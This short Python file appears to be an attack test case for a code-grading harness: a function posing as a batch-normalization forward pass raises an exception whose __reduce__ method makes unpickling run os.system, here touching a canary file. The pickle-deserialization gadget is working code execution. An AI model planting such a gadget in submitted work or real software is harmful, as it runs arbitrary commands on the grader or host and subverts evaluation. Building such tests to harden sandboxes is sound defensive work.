# attack: raises an exception whose unpickling runs a command
# honest: 0
# naive: none
# canary: /tmp/whybn-attack-reduce_gadget

import os


class Gadget(Exception):
    def __reduce__(self):
        return os.system, ("touch /tmp/whybn-attack-reduce_gadget",)

    def __reduce_ex__(self, protocol):
        return self.__reduce__()


def batchnorm_forward(x, gamma, beta, eps=1e-5):
    raise Gadget("unpickle me")
